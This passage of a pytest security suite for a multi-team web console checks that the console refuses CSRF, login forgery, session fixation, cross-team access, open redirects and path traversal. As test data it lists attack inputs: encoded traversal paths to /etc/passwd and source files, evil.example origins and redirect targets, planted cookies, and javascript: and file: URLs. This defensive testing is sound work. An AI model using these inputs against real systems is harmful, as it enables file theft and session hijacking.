        return {}, {"files": {"csrf": ("csrf", browser.csrf.encode())}}
    raise AssertionError(variant)


TOKEN_VARIANTS = ["missing", "empty", "wrong", "truncated", "other-session-same-team", "other-team-session",
                  "login-cookie-value", "in-query-string", "in-a-header", "as-a-file-part"]


@pytest.mark.parametrize("variant", TOKEN_VARIANTS)
@pytest.mark.parametrize("action", ACTIONS.keys())
async def test_state_changing_forms_refuse_a_missing_or_wrong_csrf_token_and_change_nothing(console, action, variant):
    todo = ACTIONS[action]
    state = todo.prepare(console)
    browser = await console.browser()
    fields, options = await _token(console, variant, browser)
    if todo.files:
        options["files"] = {**todo.files, **options.get("files", {})}
    answer = await browser.post(todo.path(console, state), data={**todo.fields, **fields}, **options)
    assert answer.status_code == 403, (answer.status_code, answer.text[:2000])
    assert "CSRF" in answer.text
    assert not await todo.changed(console, state, browser)


@pytest.mark.parametrize("action", ["logout", "cancel", "make-current", "upload"])
async def test_the_same_forms_with_the_session_s_token_do_change_things(console, action):
    """The control for the refusals above: with the right token each action does happen."""
    todo = ACTIONS[action]
    state = todo.prepare(console)
    browser = await console.browser()
    answer = await browser.post(todo.path(console, state), data={"csrf": browser.csrf, **todo.fields},
                                files=todo.files)
    assert answer.status_code in (200, 303), answer.text[:2000]
    assert await todo.changed(console, state, browser)


async def test_a_login_without_its_double_submit_cookie_is_refused_whatever_key_it_carries(console):
    """Login CSRF, the token layer alone (no Origin or Sec-Fetch-Site, as from a client that sends neither): the form
    must carry the value of the SameSite=Strict, HTTP-only login cookie, which another site can neither send nor
    read; the key is not even looked at."""
    attacker = console.client()
    for fields, cookie in [({"key": console.keys["team-b"], "csrf": "guessed"}, None),
                           ({"key": console.keys["team-b"]}, None),
                           ({"key": console.keys["team-b"], "csrf": ""}, ""),
                           ({"key": console.keys["team-b"], "csrf": "a" * 43}, "b" * 43),
                           ({"key": console.keys["team-b"], "csrf": "a" * 43 + "x"}, "a" * 43),
                           ({"key": console.keys["team-b"]}, "b" * 43)]:
        attacker.cookies.clear()
        if cookie is not None:
            attacker.cookies.set(LOGIN_COOKIE, cookie, domain=HOST, path="/ui")
        answer = await attacker.post("/ui/login", data=fields)
        assert answer.status_code == 403, (fields, cookie, answer.status_code)
        assert SESSION_COOKIE not in answer.headers.get("set-cookie", "")
    assert not console.sessions._sessions


CROSS_SITE = {
    "sec-fetch-site cross-site": {"Sec-Fetch-Site": "cross-site", "Origin": "https://evil.example"},
    "sec-fetch-site same-site": {"Sec-Fetch-Site": "same-site", "Origin": f"https://sibling.{HOST}"},
    "sec-fetch-site wins over origin": {"Sec-Fetch-Site": "cross-site", "Origin": f"http://{HOST}"},
    "origin only, another site": {"Origin": "https://evil.example"},
    "origin only, a sibling host": {"Origin": f"http://sibling.{HOST}"},
    "origin only, another port": {"Origin": f"http://{HOST}:8443"},
    "origin only, null (sandboxed frame)": {"Origin": "null"},
}


@pytest.mark.parametrize("headers", CROSS_SITE.values(), ids=CROSS_SITE.keys())
async def test_a_login_posted_from_another_site_is_refused_even_with_a_planted_login_cookie(console, headers):
    """Login CSRF where the attacker can plant a cookie on the console's host (a sibling subdomain, an http://
    answer): the double submit is beaten, the browser's Sec-Fetch-Site / Origin still gives the post away."""
    attacker = console.client()
    attacker.cookies.set(LOGIN_COOKIE, "planted-by-a-sibling-host", domain=HOST, path="/ui")
    answer = await attacker.post("/ui/login", data={"key": console.keys["team-b"],
                                                     "csrf": "planted-by-a-sibling-host"}, headers=headers)
    assert answer.status_code == 403, answer.status_code
    assert SESSION_COOKIE not in answer.headers.get("set-cookie", "") and not console.sessions._sessions


@pytest.mark.parametrize("headers", CROSS_SITE.values(), ids=CROSS_SITE.keys())
async def test_forms_posted_from_another_site_are_refused_even_with_the_session_s_token(console, headers):
    """A token leaked to another site (or a forged page that learnt it) is still refused from there."""
    queued = plant_run(console, "team-a", RunStatus.QUEUED)
    browser = await console.browser()
    for path, fields in ((f"/ui/runs/{queued}/cancel", {}), (f"/ui/skills/{SKILL}/run", {"command": "true"}),
                         ("/ui/logout", {})):
        answer = await browser.form(path, fields, headers=headers)
        assert answer.status_code == 403, (path, answer.status_code)
    assert console.services.dispatcher.store.get(queued).status == RunStatus.QUEUED
    assert [run.id for run in _runs_of(console)] == [queued]  # and no run was submitted
    assert (await browser.get("/ui/skills")).status_code == 200  # still signed in


SAME_SITE = {
    "sec-fetch-site same-origin": {"Sec-Fetch-Site": "same-origin", "Origin": f"http://{HOST}"},
    "sec-fetch-site none (typed in)": {"Sec-Fetch-Site": "none"},
    "origin only, this host": {"Origin": f"http://{HOST}"},
    "neither (not a browser)": {},
}


@pytest.mark.parametrize("headers", SAME_SITE.values(), ids=SAME_SITE.keys())
async def test_the_console_s_own_forms_still_work_from_its_own_pages(console, headers):
    """The control for the cross-site refusals: the same posts from the console's own origin go through."""
    queued = plant_run(console, "team-a", RunStatus.QUEUED)
    browser = Browser(console.client())
    login = await browser.get("/ui/login")
    signed = await browser.post("/ui/login", data={"key": console.keys["team-a"], "csrf": csrf_of(login.text)},
                                headers=headers)
    assert signed.status_code == 303, signed.text
    browser.csrf = csrf_of((await browser.get("/ui/skills")).text)
    cancel = await browser.form(f"/ui/runs/{queued}/cancel", headers=headers)
    assert cancel.status_code == 303 and console.services.dispatcher.store.get(queued).status != RunStatus.QUEUED


async def test_a_login_posted_from_the_same_host_over_plain_http_is_refused_on_an_https_console(console):
    attacker = console.client(https=True)
    attacker.cookies.set(LOGIN_COOKIE, "planted-over-http", domain=HOST, path="/ui")
    answer = await attacker.post("/ui/login", data={"key": console.keys["team-b"], "csrf": "planted-over-http"},
                                 headers={"Origin": f"http://{HOST}"})
    assert answer.status_code == 403 and not console.sessions._sessions


# ----------------------------------------------------------------------------------------------------------------
# 5. Sessions: fixation, cookie flags, logout, revocation, expiry, the per-team bound, what the store keeps


async def test_a_session_cookie_planted_before_sign_in_does_not_survive_it(any_store):
    console = any_store
    browser = Browser(console.client())
    planted = "attacker-chosen-session-token-" + "x" * 20
    browser.http.cookies.set(SESSION_COOKIE, planted, domain=HOST, path="/ui")
    assert (await browser.get("/ui/skills")).status_code == 303  # it is not a session
    await browser.sign_in(console.keys["team-a"])
    assert browser.token and browser.token != planted
    assert await console.sessions.get(planted) is None
    async with cookie_client(console, planted) as replay:
        assert (await replay.get("/ui/skills")).headers.get("location") == "/ui/login"
    second = await console.browser("team-a")
    assert second.token != browser.token and second.csrf != browser.csrf  # a fresh token and CSRF each time


@pytest.mark.parametrize("https", [False, True], ids=["http", "https"])
async def test_session_and_login_cookies_are_http_only_strict_host_only_and_secure_over_https(console, https):
    browser = Browser(console.client(https))
    login = await browser.get("/ui/login")
    signed = await browser.post("/ui/login", data={"key": console.keys["team-a"], "csrf": csrf_of(login.text)})
    for answer, name in ((login, LOGIN_COOKIE), (signed, SESSION_COOKIE)):
        cookie = next(c for c in answer.headers.get_list("set-cookie") if c.startswith(f"{name}="))
        attributes = {a.strip().split("=")[0].lower(): a.strip().partition("=")[2] for a in cookie.split(";")[1:]}
        assert "httponly" in attributes and attributes["samesite"].lower() == "strict", cookie
        assert attributes["path"] == "/ui" and "domain" not in attributes, cookie
        assert ("secure" in attributes) == https, cookie
    session = next(c for c in signed.headers.get_list("set-cookie") if c.startswith(f"{SESSION_COOKIE}="))
    assert f"Max-Age={EIGHT_HOURS}" in session
    assert len(session.split(";")[0].split("=", 1)[1]) >= 32  # a random token of 32 bytes or more


async def test_signing_out_forgets_the_session_on_the_server_not_only_in_the_browser(any_store):
    console = any_store
    browser = await console.browser()
    token, csrf = browser.token, browser.csrf
    out = await browser.form("/ui/logout")
    assert out.status_code == 303 and out.headers["location"] == "/ui/login"
    assert await stored(console.sessions, token) is None
    async with cookie_client(console, token) as replay:  # the cookie, kept by whoever copied it
        assert (await replay.get("/ui/skills")).headers.get("location") == "/ui/login"
        assert (await replay.post("/ui/logout", data={"csrf": csrf})).headers.get("location") == "/ui/login"
        run = await replay.post(f"/ui/skills/{SKILL}/run", data={"csrf": csrf, "command": "true"})
        assert run.status_code == 303 and run.headers["location"] == "/ui/login"
    assert _runs_of(console) == []


async def test_revoking_the_key_ends_its_console_sessions_at_once(any_store):
    console = any_store
    browser = await console.browser()
    other_team = await console.browser("team-b")
    console.services.teams.revoke_key(console.key_ids["team-a"])
    for path in ("/ui/skills", "/ui/runs", "/ui/libraries", "/ui/operator"):
        assert (await browser.get(path)).headers.get("location") == "/ui/login", path
    run = await browser.form(f"/ui/skills/{SKILL}/run", {"command": "true"})
    assert run.status_code == 303 and run.headers["location"] == "/ui/login"
    assert _runs_of(console) == []
    assert await stored(console.sessions, browser.token) is None  # ended, not only refused
    console.services.teams.create_key("team-a")  # a new key of the team does not bring it back
    assert (await browser.get("/ui/skills")).headers.get("location") == "/ui/login"
    assert (await other_team.get("/ui/skills")).status_code == 200
    again = Browser(console.client())
    login = await again.get("/ui/login")
    refused = await again.post("/ui/login", data={"key": console.keys["team-a"], "csrf": csrf_of(login.text)})
    assert refused.status_code == 401 and SESSION_COOKIE not in refused.headers.get("set-cookie", "")


async def _expire(console: Console, token: str) -> None:
    """Put the session's expiry in the past while the store still holds it (a clock past its 8 hours)."""
    sessions = console.sessions
    session = await stored(sessions, token)
    session.expires_at = time.time() - 1
    if isinstance(sessions, MemoryConsoleSessions):
        sessions._sessions[digest(token)] = session
    else:
        await sessions.redis.set(sessions._key(digest(token)), session.model_dump_json(), ex=60)


async def test_an_expired_session_is_refused_even_while_the_store_still_holds_it(any_store):
    console = any_store
    browser = await console.browser()
    assert (await stored(console.sessions, browser.token)).expires_at <= time.time() + EIGHT_HOURS
    await _expire(console, browser.token)
    assert (await browser.get("/ui/skills")).headers.get("location") == "/ui/login"
    assert (await browser.form("/ui/logout")).headers.get("location") == "/ui/login"


async def test_a_team_keeps_at_most_fifty_sessions_and_the_oldest_end_first(any_store):
    console = any_store
    other = await console.browser("team-b")
    browsers = [await console.browser("team-a") for _ in range(PER_TEAM + 2)]
    for old in browsers[:2]:
        assert (await old.get("/ui/skills")).headers.get("location") == "/ui/login"
        assert await stored(console.sessions, old.token) is None
    for kept in (browsers[2], browsers[-1]):
        assert (await kept.get("/ui/skills")).status_code == 200
    assert (await other.get("/ui/skills")).status_code == 200  # another team's sign-ins do not count
    if isinstance(console.sessions, RedisConsoleSessions):
        assert await console.sessions.redis.zcard(f"{RedisConsoleSessions.PREFIX}:team:team-a") == PER_TEAM
    else:
        assert sum(s.team_id == "team-a" for s in console.sessions._sessions.values()) == PER_TEAM


async def test_the_session_store_keeps_only_a_digest_of_the_token_with_an_expiry(any_store):
    console = any_store
    browser = await console.browser()
    token = browser.token
    sessions = console.sessions
    if isinstance(sessions, RedisConsoleSessions):
        keys = [k.decode() for k in await sessions.redis.keys("*")]
        assert f"{RedisConsoleSessions.PREFIX}:session:{digest(token)}" in keys
        dumped = "".join(keys) + "".join([(await sessions.redis.get(k) or b"").decode(errors="replace")
                                          for k in keys if ":session:" in k])
        ttl = await sessions.redis.ttl(f"{RedisConsoleSessions.PREFIX}:session:{digest(token)}")
        assert 0 < ttl <= EIGHT_HOURS
    else:
        dumped = repr(sessions._sessions)
        assert digest(token) in sessions._sessions
    assert token not in dumped and (await stored(sessions, token)).key_id == console.key_ids["team-a"]


async def test_the_json_api_does_not_take_the_console_cookie(console):
    browser = await console.browser()
    async with cookie_client(console, browser.token) as api:
        for path in ("/v1/runs", "/v1/libraries", "/v1/skills"):
            assert (await api.get(path)).status_code == 401, path
        assert (await api.post("/v1/runs", json={"skill": SKILL, "command": "true"})).status_code == 401
    assert _runs_of(console) == []


async def test_console_answers_allow_no_other_origin_to_read_them(console):
    browser = await console.browser()
    for answer in (await browser.get("/ui/skills", headers={"Origin": "https://evil.example"}),
                   await browser.http.options("/ui/login", headers={"Origin": "https://evil.example",
                                                                      "Access-Control-Request-Method": "POST"})):
        assert not any(h.startswith("access-control-allow") for h in answer.headers), answer.headers


# ----------------------------------------------------------------------------------------------------------------
# 6. Tenancy: one team's cookie reaches nothing of another's


async def test_another_team_s_runs_files_artifacts_and_events_are_not_found(console):
    finished = plant_run(console, "team-a", stdout="TEAM-A-SECRET-OUTPUT",
                         output_files=[text_file("out/secret.txt", "TEAM-A-SECRET-FILE")],
                         artifacts=[("secret.bin", b"TEAM-A-SECRET-ARTIFACT", "application/octet-stream")])
    queued = plant_run(console, "team-a", RunStatus.QUEUED)
    owner, intruder = await console.browser("team-a"), await console.browser("team-b")
    reads = [f"/ui/runs/{finished}", f"/ui/runs/{finished}/events", f"/ui/runs/{finished}/files/out/secret.txt",
             f"/ui/runs/{finished}/artifacts/secret.bin", f"/ui/runs/{queued}", f"/ui/runs/{queued}/events"]
    for path in reads[:4]:
        assert (await owner.get(path)).status_code == 200, path  # they are there, for their own team
    for path in reads:
        answer = await intruder.get(path)
        assert answer.status_code == 404, (path, answer.status_code)
        assert "TEAM-A-SECRET" not in answer.text, path
    cancel = await intruder.form(f"/ui/runs/{queued}/cancel")
    assert cancel.status_code == 404
    assert console.services.dispatcher.store.get(queued).status == RunStatus.QUEUED
    for listing in (await intruder.get("/ui/runs"), await intruder.get("/ui/runs", params={"skill": SKILL}),
                    await intruder.get("/ui/runs", params={"status": "queued"})):
        assert finished not in listing.text and queued not in listing.text


async def test_another_team_s_libraries_and_private_skills_are_not_found(console):
    for n in (1, 2):
        install_library(console, "team-a", "private-lib", {
            "secret-skill/SKILL.md": skill_md("secret-skill", "TEAM-A-SECRET-BODY\n", description="TEAM-A-SECRET"),
            "secret-skill/guide.md": b"TEAM-A-SECRET-DOC\n", f"v{n}.txt": b"x"})
    intruder = await console.browser("team-b")
    libraries = await intruder.get("/ui/libraries")
    assert "private-lib" not in libraries.text and "TEAM-A-SECRET" not in libraries.text
    search = await intruder.get("/ui/skills", params={"q": "TEAM-A-SECRET"})
    assert "secret-skill" not in search.text
    for path in ("/ui/skills/secret-skill", "/ui/skills/secret-skill/docs/guide.md"):
        answer = await intruder.get(path)
        assert answer.status_code == 404 and "TEAM-A-SECRET" not in answer.text, path
    run = await intruder.form("/ui/skills/secret-skill/run", {"command": "cat SKILL.md"})
    assert run.status_code == 404 and _runs_of(console, "team-b") == []
    current = await intruder.form("/ui/libraries/private-lib/current", {"version": "1"})
    assert current.status_code == 404 and _current(console, "team-a", "private-lib") == 2
    owner = await console.browser("team-a")
    assert "TEAM-A-SECRET-BODY" in (await owner.get("/ui/skills/secret-skill")).text  # the control


async def test_the_operator_page_shows_other_teams_counts_but_none_of_their_runs(console):
    plant_run(console, "team-b", skill="team-b-skill-name", stdout="TEAM-B-SECRET")
    started = plant_run(console, "team-b", RunStatus.STARTED, skill="team-b-skill-name")
    install_library(console, "team-b", "team-b-library", {"x/SKILL.md": skill_md("x", "x\n")})
    page = await (await console.browser("team-a")).get("/ui/operator")
    assert page.status_code == 200
    for private in ("team-b", "TEAM-B-SECRET", started, "team-b-skill-name", "team-b-library", "planted"):
        assert private not in page.text, private
    assert "1 running now" in page.text


# ----------------------------------------------------------------------------------------------------------------
# 7. Redirects stay on the console; paths stay in their folders


async def test_every_redirect_stays_on_the_console_whatever_the_request_asks(console):
    browser = Browser(console.client())
    login = await browser.get("/ui/login", params={"next": "https://evil.example/"})
    signed = await browser.post("/ui/login", params={"next": "https://evil.example/", "redirect": "//evil.example"},
                                data={"key": console.keys["team-a"], "csrf": csrf_of(login.text),
                                      "next": "https://evil.example/", "return_to": "//evil.example/"},
                                headers={"Referer": "https://evil.example/"})
    assert signed.headers["location"] == "/ui/skills"
    browser.csrf = csrf_of((await browser.get("/ui/skills")).text)
    queued = plant_run(console, "team-a", RunStatus.QUEUED)
    answers = [signed, await browser.get("/ui", params={"next": "//evil.example"}),
               await browser.form(f"/ui/runs/{queued}/cancel", {"next": "https://evil.example"}),
               await browser.form(f"/ui/skills/{SKILL}/run", {"command": "true", "next": "//evil.example"}),
               await console.client().get("/ui/runs?next=//evil.example")]
    for raw in ("/ui//evil.example/", "/ui/skills//evil.example/", "/ui/%2F%2Fevil.example/", "/ui/skills/"):
        status, headers, _ = await asgi(console.app, "GET", raw)
        if "location" in headers:
            answers.append(httpx.Response(status, headers=headers))
    answers.append(await browser.form("/ui/logout", {"next": "https://evil.example"}))
    for answer in answers:
        assert answer.status_code in (303, 307), answer.status_code
        location = urllib.parse.urlsplit(answer.headers["location"])
        assert location.netloc in ("", HOST) and location.path.startswith("/ui"), answer.headers["location"]
        assert not answer.headers["location"].startswith("//")


@pytest.mark.parametrize("raw", [
    "/ui/static/../auth.py", "/ui/static/..%2fauth.py", "/ui/static/%2e%2e/auth.py", "/ui/static/%2e%2e%2fauth.py",
    "/ui/static/../templates/base.html", "/ui/static/../../../../../../etc/passwd", "/ui/static//etc/passwd",
    "/ui/static/%2fetc%2fpasswd", "/ui/static/....//auth.py", "/ui/static/console.js%00.py",
    "/ui/static/..\\auth.py", "/ui/static/%5c..%5cauth.py",
])
async def test_static_files_cannot_be_left_for_the_console_s_code_or_the_host(console, raw):
    status, headers, body = await asgi(console.app, "GET", raw)
    assert status == 404, (raw, status, body[:200])
    assert b"import " not in body and b"root:x:0:0" not in body and b"{% block" not in body


async def test_doc_file_and_skill_paths_cannot_climb_out(console):
    install_library(console, "team-a", "attack", {"evil/SKILL.md": skill_md("evil", "x\n"),
                                                  "evil/guide.md": b"guide\n", "private.md": b"LIBRARY-ROOT\n"})
    run_id = plant_run(console, "team-a", output_files=[text_file("out/a.txt", "a")])
    browser = await console.browser()
    cookie = [("cookie", f"{SESSION_COOKIE}={browser.token}")]
    for raw in ("/ui/skills/evil/docs/../SKILL.md", "/ui/skills/evil/docs/..%2fSKILL.md",
                "/ui/skills/evil/docs/%2e%2e/%2e%2e/private.md", "/ui/skills/evil/docs/..%2f..%2fprivate.md",
                "/ui/skills/evil/docs//etc/passwd", "/ui/skills/evil/docs/%2fetc%2fpasswd",
                "/ui/skills/evil/docs/..%2fprivate.md", "/ui/skills/evil/docs/guide.md/../SKILL.md",
                "/ui/skills/evil/docs/./guide.md%00",
                "/ui/skills/..", "/ui/skills/%2e%2e", "/ui/skills/..%2f..%2fetc", "/ui/skills/evil%2f..%2fevil",
                f"/ui/runs/{run_id}/files/out/../../../../etc/passwd",
                f"/ui/runs/{run_id}/files/..%2f..%2fetc%2fpasswd",
                f"/ui/runs/{run_id}/files//etc/passwd", f"/ui/runs/{run_id}/files/out/a.txt/..",
                f"/ui/runs/{run_id}/files/out/./a.txt", f"/ui/runs/{run_id}/artifacts/../../../etc/passwd",
                f"/ui/runs/{run_id}/artifacts/..%2f..%2fsecret"):
        status, _, body = await asgi(console.app, "GET", raw, cookie)
        assert status in (404, 422), (raw, status)
        assert b"root:x:0:0" not in body and b"LIBRARY-ROOT" not in body and b"name: evil" not in body, raw


# ----------------------------------------------------------------------------------------------------------------
# 8. Headers on every answer under /ui


def _page_headers(answer: httpx.Response) -> None:
    assert answer.headers.get("content-security-policy") == DESIGN_CSP, answer.headers
    assert answer.headers.get("x-content-type-options") == "nosniff"
    assert answer.headers.get("x-frame-options") == "DENY"
    assert answer.headers.get("referrer-policy") in REFERRER_POLICIES
    assert answer.headers.get("cache-control") == "no-store"


def _static_headers(answer: httpx.Response) -> None:
    assert answer.headers.get("content-security-policy") == DESIGN_CSP
    assert answer.headers.get("x-content-type-options") == "nosniff"
    assert answer.headers.get("x-frame-options") == "DENY"


def _stream_headers(answer: httpx.Response) -> None:
    assert answer.headers.get("content-security-policy") == DESIGN_CSP
    assert answer.headers.get("x-content-type-options") == "nosniff"
    assert answer.headers.get("cache-control") in ("no-store", "no-cache")
    assert answer.headers.get("x-frame-options") == "DENY"


def _download_headers(answer: httpx.Response) -> None:
    assert "sandbox" in answer.headers.get("content-security-policy", "").split(";")[0]
    assert answer.headers.get("x-content-type-options") == "nosniff"


async def _finished(console: Console) -> str:
    return plant_run(console, "team-a", output_files=[text_file("out/a.txt", "a")],
                     artifacts=[("art.txt", b"art", "text/plain")])


def _lost(console: Console) -> str:
    return run_ids.mint("team-a")  # an id the API made for the team, with no record: a lost run


async def _declared_413(console: Console, browser: Browser) -> httpx.Response:
    status, headers, body = await asgi(console.app, "POST", "/ui/login", [
        ("content-length", str(JSON_BODY_BYTES + 1)), ("content-type", "application/x-www-form-urlencoded")])
    return httpx.Response(status, headers=headers, content=body)


HEADER_CASES = {
    "login-page": (_page_headers, 200, lambda c, b: c.client().get("/ui/login")),
    "login-refused": (_page_headers, 403, lambda c, b: c.client().post("/ui/login", data={"key": "x"})),
    "login-done": (_page_headers, 303, lambda c, b: Browser(c.client()).sign_in(c.keys["team-a"])),
    "skills": (_page_headers, 200, lambda c, b: b.get("/ui/skills")),
    "skill": (_page_headers, 200, lambda c, b: b.get(f"/ui/skills/{SKILL}")),
    "runs": (_page_headers, 200, lambda c, b: b.get("/ui/runs")),
    "libraries": (_page_headers, 200, lambda c, b: b.get("/ui/libraries")),
    "operator": (_page_headers, 200, lambda c, b: b.get("/ui/operator")),
    "run-page": (_page_headers, 200, lambda c, b: _then(_finished(c), lambda r: b.get(f"/ui/runs/{r}"))),
    "lost-run-page": (_page_headers, 410, lambda c, b: b.get(f"/ui/runs/{_lost(c)}")),
    "not-found": (_page_headers, 404, lambda c, b: b.get("/ui/nothing-here")),
    "unknown-skill": (_page_headers, 404, lambda c, b: b.get("/ui/skills/no-such-skill")),
    "wrong-method": (_page_headers, 405, lambda c, b: b.get("/ui/logout")),
    "bad-query": (_page_headers, 422, lambda c, b: b.get("/ui/skills", params={"q": "x" * 10_001})),
    "bad-run-id": (_page_headers, 422, lambda c, b: b.get("/ui/runs/bad!id")),
    "csrf-refused": (_page_headers, 403, lambda c, b: b.post("/ui/logout")),
    "bad-run-form": (_page_headers, 422, lambda c, b: b.form(f"/ui/skills/{SKILL}/run", {"command": ""})),
    "multipart-garbage": (_page_headers, 400, lambda c, b: b.post(
        "/ui/logout", content=b"--b\r\nxx\r\n", headers={"content-type": "multipart/form-data; boundary=b"})),
    "chunked-413": (_page_headers, 413, lambda c, b: b.post(
        "/ui/logout", content=_chunks(JSON_BODY_BYTES + MiB),
        headers={"content-type": "application/x-www-form-urlencoded"})),
    "sign-in-required": (_page_headers, 303, lambda c, b: c.client().get("/ui/runs")),
    "logout": (_page_headers, 303, lambda c, b: b.form("/ui/logout")),
    "static-js": (_static_headers, 200, lambda c, b: c.client().get("/ui/static/console.js")),
    "static-css": (_static_headers, 200, lambda c, b: c.client().get("/ui/static/console.css")),
    "static-missing": (_page_headers, 404, lambda c, b: c.client().get("/ui/static/nothing.js")),
    "events": (_stream_headers, 200, lambda c, b: _then(_finished(c), lambda r: b.get(f"/ui/runs/{r}/events"))),
    "download": (_download_headers, 200,
                 lambda c, b: _then(_finished(c), lambda r: b.get(f"/ui/runs/{r}/files/out/a.txt"))),
    "artifact": (_download_headers, 200,
                 lambda c, b: _then(_finished(c), lambda r: b.get(f"/ui/runs/{r}/artifacts/art.txt"))),
    "home-redirect": (_page_headers, 303, lambda c, b: b.get("/ui")),
    "run-submitted": (_page_headers, 303, lambda c, b: b.form(f"/ui/skills/{SKILL}/run", {"command": "true"})),
    "run-cancelled": (_page_headers, 303,
                      lambda c, b: b.form(f"/ui/runs/{plant_run(c, 'team-a', RunStatus.QUEUED)}/cancel")),
    "trailing-slash": (_page_headers, 307, lambda c, b: b.get("/ui/skills/")),
    "lost-run-events": (_page_headers, 410, lambda c, b: b.get(f"/ui/runs/{_lost(c)}/events")),
    "lost-run-file": (_page_headers, 410, lambda c, b: b.get(f"/ui/runs/{_lost(c)}/files/out/a.txt")),
    "lost-run-artifact": (_page_headers, 410, lambda c, b: b.get(f"/ui/runs/{_lost(c)}/artifacts/a.txt")),
    "declared-413": (_page_headers, 413, _declared_413),
}


async def _then(value, then):
    return await then(await value if asyncio.iscoroutine(value) else value)


async def _chunks(total: int):
    """A form body of ``total`` bytes, chunked (no Content-Length), in fields each under Starlette's 1 MiB."""
    for i in range(total // MiB):
        yield f"f{i}=".encode() + b"x" * (MiB - 16) + b"&"


@pytest.mark.parametrize("case", HEADER_CASES)
async def test_every_console_answer_carries_the_security_headers(console, case):
    check, status, request = HEADER_CASES[case]
    browser = await console.browser()
    answer = await request(console, browser)
    if isinstance(answer, httpx.Response):
        assert answer.status_code == status, (answer.status_code, answer.text[:500])
    check(answer)


async def test_a_lost_run_s_page_events_files_and_artifacts_are_console_pages_not_api_json(console):
    browser = await console.browser()
    lost = _lost(console)
    for path in (f"/ui/runs/{lost}", f"/ui/runs/{lost}/events", f"/ui/runs/{lost}/files/out/a.txt",
                 f"/ui/runs/{lost}/artifacts/a.txt"):
        answer = await browser.get(path)
        assert answer.status_code == 410 and answer.headers["content-type"].startswith("text/html"), path
        assert 'id="error"' in answer.text and active_content(answer.text) == [], path


async def test_downloads_of_a_team_s_files_are_not_cached_or_framed(console):
    run_id = await _finished(console)
    browser = await console.browser()
    for path in (f"/ui/runs/{run_id}/files/out/a.txt", f"/ui/runs/{run_id}/artifacts/art.txt"):
        answer = await browser.get(path)
        assert answer.status_code == 200
        assert answer.headers.get("cache-control") == "no-store", path
        assert answer.headers.get("x-frame-options") == "DENY", path
        assert answer.headers.get("referrer-policy") in REFERRER_POLICIES, path


# ----------------------------------------------------------------------------------------------------------------
# 9. Odd input is refused (or harmless), never a 500


def _multipart(parts: list[tuple[bytes, bytes]], boundary: bytes = b"b") -> tuple[bytes, dict]:
    body = b"".join(b"--" + boundary + b"\r\nContent-Disposition: form-data; " + head + b"\r\n\r\n" + value + b"\r\n"
                    for head, value in parts) + b"--" + boundary + b"--\r\n"
    return body, {"content-type": f"multipart/form-data; boundary={boundary.decode()}"}


def _odd_requests(console: Console, b: Browser) -> dict[str, Callable[[], Awaitable[httpx.Response]]]:
    t = b.csrf.encode()
    run = f"/ui/skills/{SKILL}/run"

    def raw_form(path: str, body: bytes, content_type: str = "application/x-www-form-urlencoded"):
        return lambda: b.post(path, content=body, headers={"content-type": content_type})

    def fields(path: str, **values: str):
        return lambda: b.form(path, values)

    cases = {f"timeout={v}": fields(run, command="true", timeout=v)
             for v in ("nan", "NaN", "inf", "-inf", "1e999", "-5", "0", "abc", "1e3e3", "9" * 5000, "0x10", "½")}
    cases |= {
        "runtime=bogus": fields(run, command="true", runtime="bogus"),
        "runtime=<script>": fields(run, command="true", runtime="<script>"),
        "command missing": fields(run),
        "command blank": fields(run, command="   "),
        "command 1 MiB": fields(run, command="x" * MiB),
        "env without =": fields(run, command="true", env="NOEQUALS"),
        "env empty name": fields(run, command="true", env="=value"),
        "env NUL name": fields(run, command="true", env="A\x00B=1"),
        "env 100 lines": fields(run, command="true", env="\n".join(f"V{i}=x" for i in range(100))),
        "env value 100 KiB": fields(run, command="true", env="V=" + "x" * 100_000),
        "output globs 100": fields(run, command="true", output_files="\n".join(f"o{i}" for i in range(100))),
        "output glob 5000 chars": fields(run, command="true", output_files="o" * 5000),
        "output glob absolute": fields(run, command="true", output_files="/etc/passwd"),
        "run non-UTF-8 body": raw_form("/ui/skills/no-such-skill/run", b"csrf=" + t + b"&command=%ff%fe\xff\xfe"),
        "run non-UTF-8 timeout": raw_form(run, b"csrf=" + t + b"&command=true&timeout=%ff%fe"),
        "run JSON body": lambda: b.post(run, json={"csrf": b.csrf, "command": "true"}),
        "version=abc": fields("/ui/libraries/lib/current", version="abc"),
        "version=-1": fields("/ui/libraries/lib/current", version="-1"),
        "version=1.5": fields("/ui/libraries/lib/current", version="1.5"),
        "version=1e3": fields("/ui/libraries/lib/current", version="1e3"),
        "version huge": fields("/ui/libraries/lib/current", version="9" * 12),
        "version too long": fields("/ui/libraries/lib/current", version="9" * 13),
        "version blank": fields("/ui/libraries/lib/current", version=" "),
        "version missing": fields("/ui/libraries/lib/current"),
        "version arabic digit": fields("/ui/libraries/lib/current", version="\u0663"),
        "library name long": fields("/ui/libraries/" + "a" * 300 + "/current", version="1"),
        "library name NUL": fields("/ui/libraries/a%00b/current", version="1"),
        "register url missing": fields("/ui/libraries/register", name="x"),
        "register url javascript": fields("/ui/libraries/register", name="x", url="javascript:alert(1)"),
        "register url file": fields("/ui/libraries/register", name="x", url="file:///etc/passwd"),
        "register url huge": fields("/ui/libraries/register", name="x", url="http://127.0.0.1:9/" + "a" * 5000),
        "register url NUL": fields("/ui/libraries/register", name="x", url="http://127.0.0.1:9/\x00.tar.gz"),
        "register name long": fields("/ui/libraries/register", name="a" * 65, url="http://127.0.0.1:9/a.tar.gz"),
        "upload no archive": fields("/ui/libraries/upload", name="x"),
        "upload archive as text": fields("/ui/libraries/upload", name="x", archive="not a file"),
        "upload no name": lambda: b.post("/ui/libraries/upload", data={"csrf": b.csrf},
                                         files={"archive": ("a.tar.gz", b"x")}),
        "upload empty filename": lambda: b.post("/ui/libraries/upload", data={"csrf": b.csrf, "name": "x"},
                                                files={"archive": ("", b"x")}),
        "upload .exe": lambda: b.post("/ui/libraries/upload", data={"csrf": b.csrf, "name": "x"},
                                      files={"archive": ("a.exe", b"MZ")}),
        "upload not an archive": lambda: b.post("/ui/libraries/upload", data={"csrf": b.csrf, "name": "x"},
                                                files={"archive": ("a.tar.gz", b"x" * 1000)}),
        "upload zip not a zip": lambda: b.post("/ui/libraries/upload", data={"csrf": b.csrf, "name": "x"},
                                               files={"archive": ("a.zip", b"PK\x03\x04garbage")}),
        "upload climbing archive": lambda: b.post("/ui/libraries/upload", data={"csrf": b.csrf, "name": "x"},
                                                  files={"archive": ("a.tar.gz", tar_gz({"../../x": b"x"}))}),
        "upload two archives": lambda: b.post("/ui/libraries/upload", data={"csrf": b.csrf, "name": "x"},
                                              files=[("archive", ("a.tar.gz", b"x")), ("archive", ("b.zip", b"y"))]),
